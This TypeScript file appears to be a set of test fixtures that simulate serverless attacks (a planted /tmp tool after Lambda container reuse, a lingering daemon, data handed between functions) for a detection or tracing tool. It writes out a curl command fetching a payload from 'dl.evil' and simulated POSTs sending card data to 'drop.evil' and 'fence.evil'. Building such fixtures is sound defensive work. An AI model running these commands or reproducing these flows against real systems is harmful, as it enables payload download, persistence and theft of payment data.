import { Clock, Recorded } from './scenario.ts';

const API = { type: 'http', sourceIp: '203.0.113.9', userAgent: 'curl/8', method: 'POST', path: '/cards' } as const;

/** Request 1 plants a tool in /tmp, request 2 of the same instance uses it and sends cards out, also through `notify`. */
export function containerReuse() {
  const clock = new Clock();
  const purchase = new Recorded('purchase', clock);
  const cards = new Recorded('authorize-cc', clock);
  const notify = new Recorded('notify', clock);
  const { runtime } = cards;

  cards.begin('req-benign', API, [{ key: 'apigw:a0', sure: 'exact' }]);
  cards.aws(runtime, 'dynamodb', 'GetItem', [], [{ type: 'table-item', id: 'ddb:cards/0000', access: 'read' }]);
  cards.end();

  cards.begin('req-plant', API, [{ key: 'apigw:a1', sure: 'exact' }]);
  const sh = cards.spawn(runtime, 40, ['sh', '-c', 'curl -o /tmp/.x.js http://dl.evil/x']);
  const curl = cards.spawn(sh, 41, ['curl', '-o', '/tmp/.x.js', 'http://dl.evil/x']);
  cards.add(curl, { kind: 'dns', name: 'dl.evil', addrs: ['127.66.0.1'] });
  const peer = { addr: '127.66.0.1', port: 80, proto: 'tcp' } as const;
  cards.add(curl, { kind: 'socket-connect', peer, fd: 5, localPort: 40_001, steered: true });
  cards.exchange(curl, { host: 'dl.evil', port: 80, scheme: 'http', path: '/x', addr: '127.66.0.1', response: { bytes: 900 } });
  cards.add(curl, { kind: 'socket-close', peer, fd: 5, received: 1000, sent: 100 });
  cards.write(curl, '/tmp/.x.js', 900);
  cards.exit(curl);
  cards.exit(sh);
  cards.end();

  cards.begin('req-between', API);
  cards.read(runtime, '/var/task/lib.js');
  cards.aws(runtime, 'dynamodb', 'GetItem', [], [{ type: 'table-item', id: 'ddb:cards/1111', access: 'read' }]);
  cards.end();

  purchase.begin('req-buy', API, [{ key: 'apigw:a2', sure: 'exact' }]);
  purchase.aws(
    purchase.runtime,
    'lambda',
    'Invoke',
    ['lambda:req-use'],
    [{ type: 'function', id: 'lambda:authorize-cc', access: 'call' }],
  );
  cards.begin('req-use');
  cards.read(runtime, '/tmp/.x.js', 900);
  cards.aws(runtime, 'dynamodb', 'Scan', [], [{ type: 'table', id: 'ddb:cards', access: 'read' }]);
  cards.exchange(runtime, { host: 'drop.evil', method: 'POST', path: '/c', request: { bytes: 4000 }, response: { bytes: 2 } });
  cards.aws(
    runtime,
    'lambda',
    'Invoke',
    ['lambda:req-notify'],
    [{ type: 'function', id: 'lambda:notify', access: 'call' }],
    202,
  );
  cards.end();
  purchase.end();

  notify.begin('req-notify');
  notify.exchange(notify.runtime, {
    host: 'drop.evil',
    method: 'POST',
    path: '/n',
    request: { bytes: 400 },
    response: { bytes: 2 },
  });
  notify.end();

  // Benign traffic after the attack, over the same functions.
  cards.begin('req-later', API);
  cards.aws(runtime, 'dynamodb', 'GetItem', [], [{ type: 'table-item', id: 'ddb:cards/2222', access: 'read' }]);
  cards.end();
  return { instances: [purchase, cards, notify], purchase, cards, notify, curl, sh };
}

/** A process left running by one request rewrites a file that the next one reads before it answers. */
export function survivingProcess() {
  const clock = new Clock();
  const fn = new Recorded('ship', clock);
  fn.begin('req-a', API);
  const daemon = fn.spawn(fn.runtime, 50, ['/tmp/d', '--watch']);
  fn.end();
  fn.begin('req-b', API);
  fn.read(fn.runtime, '/var/task/x.js');
  fn.end();
  fn.begin('req-c', API);
  fn.write(daemon, '/tmp/prices.json');
  fn.read(fn.runtime, '/tmp/prices.json');
  fn.aws(fn.runtime, 'dynamodb', 'PutItem', [], [{ type: 'table-item', id: 'ddb:orders/77', access: 'write' }]);
  fn.end();
  return { instances: [fn], fn, daemon };
}

export type Carrier = 'sqs' | 's3' | 'event' | 'lambda';

/** One function hands over to another through a service; the second one sends data out. */
export function handOver(carrier: Carrier) {
  const clock = new Clock();
  const a = new Recorded('sender', clock);
  const b = new Recorded('receiver', clock);
  const other = new Recorded('bystander', clock);
  const keys: Record<Carrier, string> = { sqs: 'sqs:m-1', s3: 's3req:R1', event: 'event:e-1', lambda: 'lambda:req-b' };
  const calls: Record<Carrier, readonly [string, string]> = {
    sqs: ['sqs', 'SendMessage'],
    s3: ['s3', 'PutObject'],
    event: ['events', 'PutEvents'],
    lambda: ['lambda', 'Invoke'],
  };
  const triggers = { sqs: 'sqs', s3: 's3', event: 'eventbridge', lambda: 'invoke' } as const;
  other.begin('req-other', API);
  other.aws(other.runtime, ...calls[carrier], [`${keys[carrier]}-of-another`]);
  other.end();
  a.begin('req-a', API);
  a.aws(a.runtime, ...calls[carrier], [keys[carrier]]);
  a.end();
  b.begin('req-b', { type: triggers[carrier] }, [{ key: keys[carrier], sure: 'exact' }]);
  b.exchange(b.runtime, { host: 'drop.evil', method: 'POST', request: { bytes: 500 } });
  b.end();
  return { instances: [a, b, other], a, b, other };
}

/** A process left by one order changes the case of the next one, whose unpaid delivery is then announced to the attacker. */
export function tamperedAnswer() {
  const clock = new Clock();
  const purchase = new Recorded('purchase', clock);
  const price = new Recorded('get-price', clock);
  const authorize = new Recorded('authorize-cc', clock);
  const publish = new Recorded('publish', clock);
  const invoke = (from: Recorded, to: Recorded, req: string, act: () => void) => {
    const start = clock.tick();
    to.begin(req);
    act();
    to.end();
    const resource = { type: 'function', id: `lambda:${to.fn}`, access: 'call' } as const;
    const aws = { service: 'lambda', operation: 'Invoke' };
    const keys = [{ key: `lambda:${req}`, sure: 'exact' as const }];
    from.exchange(from.runtime, {
      from: start,
      to: clock.tick(),
      host: 'lambda.eu-west-1.amazonaws.com',
      aws,
      keys,
      resources: [resource],
    });
  };
  const getPrice = () =>
    price.aws(price.runtime, 'dynamodb', 'GetItem', [], [{ type: 'table-item', id: 'ddb:prices/1', access: 'read' }]);

  purchase.begin('buy-1', API);
  invoke(purchase, price, 'price-1', getPrice);
  let daemon = authorize.runtime;
  invoke(purchase, authorize, 'auth-1', () => {
    const sh = authorize.spawn(authorize.runtime, 60, ['sh', '-c', 'printf x; setsid sh -c while &']);
    daemon = authorize.spawn(sh, 61, ['sh', '-c', 'while']);
    authorize.exit(sh);
  });
  purchase.end();

  // It goes on living between requests and through one that has nothing to do with it.
  authorize.idle();
  authorize.read(daemon, '/usr/share/zoneinfo/UTC');
  authorize.begin('auth-between');
  authorize.read(daemon, '/usr/share/zoneinfo/UTC');
  authorize.end();
  authorize.idle();
  authorize.read(daemon, '/usr/share/zoneinfo/UTC');

  purchase.begin('buy-2', API);
  invoke(purchase, price, 'price-2', getPrice);
  invoke(purchase, authorize, 'auth-2', () => {
    authorize.write(authorize.runtime, '/tmp/cases/2.json');
    authorize.write(daemon, '/tmp/cases/2.json');
    authorize.read(authorize.runtime, '/tmp/cases/2.json');
    authorize.add(authorize.runtime, { kind: 'file-change', op: 'unlink', path: '/tmp/cases/2.json' });
  });
  purchase.aws(purchase.runtime, 'dynamodb', 'PutItem', [], [{ type: 'table-item', id: 'ddb:orders/2', access: 'write' }]);
  invoke(purchase, publish, 'publish-2', () => {
    publish.aws(
      publish.runtime,
      'events',
      'PutEvents',
      ['event:e2'],
      [{ type: 'event-bus', id: 'events:default', access: 'write' }],
    );
    publish.exchange(publish.runtime, { host: 'fence.evil', method: 'POST', request: { bytes: 300 }, response: { bytes: 0 } });
  });
  purchase.end();
  return { instances: [purchase, price, authorize, publish], purchase, price, authorize, publish, daemon };
}
